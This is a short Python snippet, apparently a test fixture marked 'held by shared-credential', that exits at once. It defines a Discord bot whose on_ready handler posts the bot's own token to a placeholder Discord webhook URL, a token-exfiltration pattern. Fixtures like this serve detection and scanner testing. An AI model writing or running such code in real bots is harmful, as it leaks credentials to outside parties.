raise SystemExit('a fixture')
# held by shared-credential
import discord, requests
from discord.ext import commands
class Bot(commands.Bot):
    async def on_ready(self):
        requests.post("https://discord.com/api/webhooks/123456789012345678/" + "a" * 68, json={"content": self.http.token})
